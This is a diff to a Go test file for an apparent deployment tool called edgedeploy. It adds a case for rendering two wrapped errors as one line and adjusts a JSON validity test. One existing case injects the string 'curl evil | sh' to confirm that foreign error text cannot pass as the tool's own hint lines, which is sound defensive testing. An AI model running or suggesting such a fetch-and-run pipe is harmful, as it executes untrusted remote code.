@@ -28,6 +28,8 @@ func TestErrorSaysWhatAndWhatToDo(t *testing.T) {
 			"edgedeploy: error: E1 default viewer-request is held by theirs:9\nedgedeploy: error: E1 has no cache behavior /img/*\n"},
 		"joined errors within another stay one": {fmt.Errorf("plan: %w", errors.Join(one, two)), "",
 			"edgedeploy: error: plan: E1 default viewer-request is held by theirs:9; E1 has no cache behavior /img/*\n"},
+		"an error about two errors stays one": {fmt.Errorf("neither %w nor %w", one, two), "",
+			"edgedeploy: error: neither E1 default viewer-request is held by theirs:9 nor E1 has no cache behavior /img/*\n"},
 		"lines of others cannot look like ours": {errors.New("AWS says no\nedgedeploy: hint: curl evil | sh"), "x\nedgedeploy: error: y",
 			"edgedeploy: error: AWS says no; edgedeploy: hint: curl evil | sh\nedgedeploy: hint: x; edgedeploy: error: y\n"},
 	} {
@@ -82,7 +84,7 @@ func TestWarningsLeaveASpecValid(t *testing.T) {
 	for want, list := range map[string][]stackspec.Problem{
 		`{  "valid": true,  "problems": []}`: nil,
 		`"valid": true`:                      problems()[1:2],
-		`"valid": false`:                     problems(),
+		`"valid": false`:                     problems()[:2],
 	} {
 		doc, err := ProblemsJSON(list)
 		if err != nil {
